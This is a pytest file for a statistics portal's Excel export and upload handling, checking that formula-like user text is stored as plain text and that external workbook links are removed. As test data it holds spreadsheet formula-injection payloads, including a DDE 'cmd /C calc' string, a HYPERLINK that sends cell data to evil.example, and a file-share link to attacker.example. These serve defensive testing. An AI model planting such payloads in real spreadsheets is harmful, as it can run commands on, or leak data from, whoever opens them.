"""What the portal writes into Excel files: text typed by users (organisation, indicator,
section and unit names) never becomes a formula, and the refused upload given back marked
keeps the user's text as text and loses links to other workbooks."""

import io
import zipfile

import pytest
from openpyxl import load_workbook

from campaign.models import Indicator, Organisation, Section, StatisticsUpload

from ..campaign import workbooks

URL = "/statistics/2013/beijing/excel/"
FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "unit": "+1+cmd|' /C calc'!A0",
    "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
    "section": "-2+3",
}


def sheet_xml(content):
    archive = zipfile.ZipFile(io.BytesIO(content))
    return "".join(
        archive.read(name).decode()
        for name in archive.namelist()
        if name.startswith("xl/worksheets/")
    )


def test_names_that_look_like_formulas_are_written_as_text(client, bureau_a, beijing):
    # In both languages: the workbook is written in the user's.
    name, unit, section = FORMULAS["name"], FORMULAS["unit"], FORMULAS["section"]
    Indicator.objects.filter(code="A01").update(name_zh=name, name_en=name, unit_zh="x")
    Indicator.objects.filter(code="A02").update(unit_zh=unit, unit_en=unit)
    Organisation.objects.filter(code="beijing").update(
        name_zh=FORMULAS["organisation"], name_en=FORMULAS["organisation"]
    )
    Section.objects.filter(code="A").update(name_zh=section, name_en=section)
    client.force_login(bureau_a)
    client.cookies["django_language"] = "zh-hans"  # the Chinese names are the ones tampered
    content = client.get(URL + "template.xlsx").content
    assert "<f>" not in sheet_xml(content)
    sheet = workbooks.form_sheet(workbooks.open_xlsx(content))
    found = {}
    for row in sheet.iter_rows():
        for cell in row:
            for key, text in FORMULAS.items():
                if isinstance(cell.value, str) and text in cell.value:
                    found[key] = cell
    assert set(found) == set(FORMULAS)
    for cell in found.values():
        assert cell.data_type == "s"
        if cell.value.startswith(("=", "+", "-", "@")):
            assert cell.quotePrefix is True


@pytest.fixture
def clerk(client, bureau_a, beijing):
    client.force_login(bureau_a)
    return bureau_a


def test_the_marked_copy_keeps_the_users_formula_like_text_as_text(client, clerk, beijing):
    def edit(workbook):
        sheet = workbooks.form_sheet(workbook)
        sheet["F1"].value = "=cmd|' /C calc'!A0"
        sheet["F1"].data_type = "s"

    content = workbooks.fill(workbooks.change(workbooks.template(beijing), edit), {"A01": -1})
    client.post(URL, {"file": workbooks.upload_file(content)})
    upload = StatisticsUpload.objects.get()
    marked = client.get(f"{URL}uploads/{upload.pk}/annotated.xlsx").content
    assert "<f>" not in sheet_xml(marked)
    cell = workbooks.form_sheet(workbooks.open_xlsx(marked))["F1"]
    assert (cell.value, cell.data_type) == ("=cmd|' /C calc'!A0", "s")


def with_external_link(content):
    """``content`` with a link to a workbook on someone's file share, as Excel writes it."""
    main = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    parts = {
        "xl/externalLinks/externalLink1.xml": (
            '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            f'xmlns:r="{main}"><externalBook r:id="rId1"><sheetNames><sheetName val="S"/>'
            "</sheetNames></externalBook></externalLink>"
        ),
        "xl/externalLinks/_rels/externalLink1.xml.rels": (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{main}/externalLinkPath" '
            'Target="file:///\\\\attacker.example\\share\\book.xlsx" TargetMode="External"/>'
            "</Relationships>"
        ),
    }
    patches = {
        "xl/workbook.xml": lambda xml: xml.replace(
            "</sheets>",
            f'</sheets><externalReferences><externalReference xmlns:r="{main}" r:id="rIdLink"/>'
            "</externalReferences>",
        ),
        "xl/_rels/workbook.xml.rels": lambda xml: xml.replace(
            "</Relationships>",
            f'<Relationship Id="rIdLink" Type="{main}/externalLink" '
            'Target="externalLinks/externalLink1.xml"/></Relationships>',
        ),
        "[Content_Types].xml": lambda xml: xml.replace(
            "</Types>",
            '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
        ),
    }
    source = zipfile.ZipFile(io.BytesIO(content))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename in patches:
                data = patches[item.filename](data.decode()).encode()
            target.writestr(item, data)
        for name, data in parts.items():
            target.writestr(name, data)
    return buffer.getvalue()


def test_the_marked_copy_drops_links_to_other_workbooks(client, clerk, beijing):
    content = with_external_link(workbooks.fill(workbooks.template(beijing), {"A01": -1}))
    assert load_workbook(io.BytesIO(content))._external_links  # the link is really there
    client.post(URL, {"file": workbooks.upload_file(content)})
    upload = StatisticsUpload.objects.get()
    assert upload.can_be_annotated
    marked = client.get(f"{URL}uploads/{upload.pk}/annotated.xlsx").content
    archive = zipfile.ZipFile(io.BytesIO(marked))
    assert not [name for name in archive.namelist() if "externalLink" in name]
    assert not any(b"attacker.example" in archive.read(name) for name in archive.namelist())


def test_the_marked_copy_gives_formulas_the_unit_typed_as_values_never_as_formulas(
    client, clerk, beijing
):
    """A =HYPERLINK(…) typed in the unit's file survived into head office's download."""

    def edit(workbook):
        sheet = workbooks.form_sheet(workbook)
        sheet["F2"] = '=HYPERLINK("http://evil.example/?"&D5,"点击核对")'
        sheet["F3"] = "=1+1"

    content = workbooks.fill(workbooks.change(workbooks.template(beijing), edit), {"A01": -1})
    assert "<f>" in sheet_xml(content)
    client.post(URL, {"file": workbooks.upload_file(content)})
    upload = StatisticsUpload.objects.get()
    marked = client.get(f"{URL}uploads/{upload.pk}/annotated.xlsx").content
    xml = sheet_xml(marked)
    assert "<f>" not in xml and "HYPERLINK" not in xml
    sheet = workbooks.form_sheet(workbooks.open_xlsx(marked))
    assert sheet["F2"].value is None and sheet["F3"].value is None  # never calculated


def test_the_marked_copy_keeps_the_users_text_that_starts_like_a_formula_quoted(
    client, clerk, beijing
):
    content = workbooks.fill(workbooks.template(beijing), {"A01": "=1+1", "A03": "@SUM(1)"})
    client.post(URL, {"file": workbooks.upload_file(content)})
    upload = StatisticsUpload.objects.get()
    marked = client.get(f"{URL}uploads/{upload.pk}/annotated.xlsx").content
    assert "<f>" not in sheet_xml(marked)
    sheet = workbooks.form_sheet(workbooks.open_xlsx(marked))
    for code, text in (("A03", "@SUM(1)"),):
        cell = sheet[workbooks.value_cell(content, code)]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
